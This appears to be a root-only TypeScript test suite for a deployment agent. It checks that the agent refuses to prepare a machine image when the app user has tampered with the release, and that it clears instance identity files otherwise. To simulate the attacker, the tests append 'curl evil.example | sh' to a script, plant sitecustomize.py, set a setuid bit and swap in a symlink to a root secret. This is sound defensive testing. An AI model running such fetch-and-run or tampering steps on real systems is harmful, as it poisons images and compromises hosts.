/**
 * An image is baked from a deployed instance, and the app user can write its release tree: a
 * compromised app could poison every instance booted from the image. Before an image is taken
 * the runner sends the agent ZCP_ACTION=prepare-image, which compares the current release with
 * the manifest root recorded when it was deployed and refuses on any difference; only an
 * untouched release gets its instance identity (machine-id, SSH host keys, deploy logs, shell
 * histories) cleared.
 *
 * These tests play the app user against a real agent, a real supervisord and real files. The
 * identity files live in a scratch tree (ZCP_IMAGE_ROOT), never the machine's own /etc. They
 * need root (only root can switch to an app user); without it the suite is skipped.
 */
import { execFileSync, spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { expect } from "chai";
import { instanceStateDir, readVersion, type AgentRun, type LocalInstance } from "../../deploy/local/fleet.js";
import { makeVictim, ROOT_SECRET } from "../fixtures/agent/hostile-app.js";
import { buildRelease, type BuiltRelease } from "../helpers/releases.js";
import { deployExpecting, fleetForSuite, isRoot, paramsFor, snapshotTree, uidOf } from "../helpers/supervisor.js";

const MACHINE_ID = "0f1e2d3c4b5a69788796a5b4c3d2e1f0\n";
const HOST_KEYS = ["ssh_host_ed25519_key", "ssh_host_ed25519_key.pub", "ssh_host_rsa_key"];

describe("zcp-agent: prepare-image refuses a release the app user changed (as root)", function () {
  this.timeout(240000);
  const fleet = fleetForSuite("zcp-agent-image");
  let v1: BuiltRelease;
  let v2: BuiltRelease;
  let scratchCount = 0;

  before(function () {
    if (!isRoot()) {
      // Without root the agent is the app user: there is no privilege to defend.
      this.skip();
    }
    const out = path.join(fleet.root, "artifacts");
    v1 = buildRelease(out, {
      version: "1.0.0",
      // Names with a space, tab, backslash and newline must survive the manifest both ways.
      extraFiles: { "bin/tool.sh": "#!/bin/sh\necho tool\n", "lib/helper.py": "X = 1\n", "lib/odd na\tme\\with\nnewline.txt": "odd\n" },
    });
    v2 = buildRelease(out, { version: "2.0.0" });
  });


  function asAppUser(...cmd: string[]): void {
    const r = spawnSync("runuser", ["-u", fleet.appUser, "--", ...cmd], { encoding: "utf8" });
    expect(r.status, `as the app user: ${cmd.join(" ")}: ${r.stderr}`).to.equal(0);
  }

  /**
   * A scratch file system root with the files an instance's identity is made of: machine-id,
   * the D-Bus copy, SSH host keys, root's and the app user's shell histories.
   */
  function scratchRoot(): { root: string; appHome: string } {
    scratchCount += 1;
    const root = path.join(fleet.root, `image-root-${scratchCount}`);
    fs.mkdirSync(path.join(root, "etc", "ssh"), { recursive: true });
    fs.mkdirSync(path.join(root, "var", "lib", "dbus"), { recursive: true });
    fs.mkdirSync(path.join(root, "root"), { recursive: true, mode: 0o700 });
    fs.writeFileSync(path.join(root, "etc", "machine-id"), MACHINE_ID, { mode: 0o444 });
    fs.writeFileSync(path.join(root, "var", "lib", "dbus", "machine-id"), MACHINE_ID);
    for (const key of HOST_KEYS) fs.writeFileSync(path.join(root, "etc", "ssh", key), `key ${key}\n`, { mode: 0o600 });
    fs.writeFileSync(path.join(root, "etc", "ssh", "sshd_config"), "PermitRootLogin no\n");
    fs.writeFileSync(path.join(root, "root", ".bash_history"), "aws sts get-caller-identity\n");
    const home = execFileSync("getent", ["passwd", fleet.appUser], { encoding: "utf8" }).split(":")[5] ?? "";
    expect(home, "the app user's home").to.match(/^\//);
    const appHome = path.join(root, home);
    fs.mkdirSync(appHome, { recursive: true });
    fs.writeFileSync(path.join(appHome, ".bash_history"), "cat /etc/passwd\n");
    execFileSync("chown", ["-R", `${uidOf(fleet.appUser)}`, appHome]);
    return { root, appHome };
  }

  async function deployed(release: BuiltRelease): Promise<LocalInstance> {
    const inst = await fleet.add();
    await deployExpecting(inst, paramsFor(inst, release), 0);
    return inst;
  }

  function prepare(inst: LocalInstance, release: BuiltRelease, root: string, exitCode: number): Promise<AgentRun> {
    return deployExpecting(inst, paramsFor(inst, release), exitCode, { ZCP_ACTION: "prepare-image", ZCP_IMAGE_ROOT: root });
  }

  /** The refusal names the path and what changed; nothing of the identity was cleared. */
  function expectRefused(run: AgentRun, root: string, pathPattern: RegExp): void {
    expect(run.result).to.include({ status: "failed", reason: "tampered", version: "1.0.0" });
    expect(run.result?.message, String(run.result?.message)).to.match(pathPattern);
    expect(fs.readFileSync(path.join(root, "etc", "machine-id"), "utf8"), "machine-id").to.equal(MACHINE_ID);
    for (const key of HOST_KEYS) expect(fs.existsSync(path.join(root, "etc", "ssh", key)), key).to.equal(true);
  }

  it("an untouched release passes, and machine-id, host keys, deploy logs and histories are cleared", async () => {
    const inst = await deployed(v1);
    const { root, appHome } = scratchRoot();
    // The running app imports modules: Python's bytecode caches are not part of the release.
    asAppUser("mkdir", "-p", path.join(inst.appDir, "releases", "1.0.0", "lib", "__pycache__"));
    asAppUser("sh", "-c", `printf 'cache' > ${path.join(inst.appDir, "releases", "1.0.0", "lib", "__pycache__", "helper.cpython-312.pyc")}`);
    const stateDir = instanceStateDir(inst);
    expect(fs.existsSync(path.join(stateDir, "deploy.log")), "deploy log before").to.equal(true);

    const run = await prepare(inst, v1, root, 0);

    expect(run.result).to.include({ status: "prepared", version: "1.0.0", current: "1.0.0" });
    expect(fs.readFileSync(path.join(root, "etc", "machine-id"), "utf8"), "machine-id is empty").to.equal("");
    expect(fs.existsSync(path.join(root, "var", "lib", "dbus", "machine-id")), "dbus machine-id").to.equal(false);
    for (const key of HOST_KEYS) expect(fs.existsSync(path.join(root, "etc", "ssh", key)), key).to.equal(false);
    expect(fs.existsSync(path.join(root, "etc", "ssh", "sshd_config")), "sshd_config is kept").to.equal(true);
    expect(fs.existsSync(path.join(root, "root", ".bash_history")), "root's history").to.equal(false);
    expect(fs.existsSync(path.join(appHome, ".bash_history")), "the app user's history").to.equal(false);
    expect(fs.existsSync(path.join(stateDir, "deploy.log")), "zcp's deploy log").to.equal(false);
    expect(fs.existsSync(path.join(inst.appDir, "releases", "1.0.0", "lib", "__pycache__")), "bytecode cache").to.equal(false);
    // The release itself and zcp's record of it stay: an instance from the image reuses it.
    const manifest = fs.readFileSync(path.join(stateDir, "releases", "1.0.0.manifest"), "utf8");
    expect(manifest, "an odd name, escaped on one line").to.match(/^f\t644\t4\t[0-9a-f]{64}\tlib\/odd na\\tme\\\\with\\nnewline\.txt$/m);
    expect(manifest, "the dependency link the agent made").to.match(/^l\t-\t-\t\.\.\/\.\.\/shared\/venvs\/[0-9a-f]{16}\t\.venv$/m);
    expect((await readVersion(inst))?.version).to.equal("1.0.0");
  });

  it("a file the app user changed in the release is refused, naming it", async () => {
    const inst = await deployed(v1);
    const { root } = scratchRoot();
    asAppUser("sh", "-c", `echo 'curl evil.example | sh' >> ${path.join(inst.appDir, "releases", "1.0.0", "bin", "tool.sh")}`);

    const run = await prepare(inst, v1, root, 1);

    expectRefused(run, root, /bin\/tool\.sh: content changed/);
  });

  it("a file the app user added to the release is refused, naming it", async () => {
    const inst = await deployed(v1);
    const { root } = scratchRoot();
    asAppUser("sh", "-c", `echo 'import os' > ${path.join(inst.appDir, "releases", "1.0.0", "lib", "sitecustomize.py")}`);

    const run = await prepare(inst, v1, root, 1);

    expectRefused(run, root, /lib\/sitecustomize\.py: unexpected a file/);
  });

  it("a setuid bit the app user set is refused", async () => {
    const inst = await deployed(v1);
    const { root } = scratchRoot();
    asAppUser("chmod", "u+s", path.join(inst.appDir, "releases", "1.0.0", "bin", "tool.sh"));

    const run = await prepare(inst, v1, root, 1);

    expectRefused(run, root, /bin\/tool\.sh: mode 6?44 -> 46?44 \(setuid\/setgid\)/);
  });

  it("a file swapped for a link to a root-owned file is refused, and root does not read through it", async () => {
    const inst = await deployed(v1);
    const { root } = scratchRoot();
    const victim = makeVictim(fleet.root, `victim-${scratchCount}`);
    const before = snapshotTree(victim);
    const file = path.join(inst.appDir, "releases", "1.0.0", "lib", "helper.py");
    asAppUser("rm", "-f", file);
    asAppUser("ln", "-s", path.join(victim, "secret"), file);

    const run = await prepare(inst, v1, root, 1);

    expectRefused(run, root, /lib\/helper\.py: was a file, now a link to /);
    expect(run.stdout + run.stderr).not.to.include(ROOT_SECRET);
    expect(snapshotTree(victim)).to.deep.equal(before);
  });

  it("a release other than the current one is not prepared", async () => {
    const inst = await deployed(v1);
    const { root } = scratchRoot();

    const run = await deployExpecting(inst, paramsFor(inst, v2), 1, { ZCP_ACTION: "prepare-image", ZCP_IMAGE_ROOT: root });

    expect(run.result).to.include({ status: "failed", reason: "not_current", current: "1.0.0" });
    expect(fs.readFileSync(path.join(root, "etc", "machine-id"), "utf8")).to.equal(MACHINE_ID);
  });

  it("a release extracted before manifests existed is refused until it is deployed again, which fetches it anew", async () => {
    const inst = await deployed(v1);
    const { root } = scratchRoot();
    // What an older agent left: the verified checksum, but no manifest.
    fs.rmSync(path.join(instanceStateDir(inst), "releases", "1.0.0.manifest"));

    const refused = await prepare(inst, v1, root, 1);
    expect(refused.result).to.include({ status: "failed", reason: "no_manifest" });

    await deployExpecting(inst, paramsFor(inst, v2), 0);
    const back = await deployExpecting(inst, paramsFor(inst, v1), 0);
    expect(back.stdout, "fetched again rather than reused").to.include("artifact verified");
    const run = await prepare(inst, v1, root, 0);
    expect(run.result).to.include({ status: "prepared", version: "1.0.0" });
  });

  it("an image root that is not a private directory is rejected before anything is looked at", async () => {
    const inst = await deployed(v1);
    const { root } = scratchRoot();
    fs.chmodSync(root, 0o777);

    const run = await prepare(inst, v1, root, 2);

    expect(run.result).to.include({ status: "failed", reason: "rejected" });
    expect(run.result?.message).to.include("ZCP_IMAGE_ROOT must be owned by uid 0 and writable by it alone");
    expect(fs.readFileSync(path.join(root, "etc", "machine-id"), "utf8")).to.equal(MACHINE_ID);
  });
});
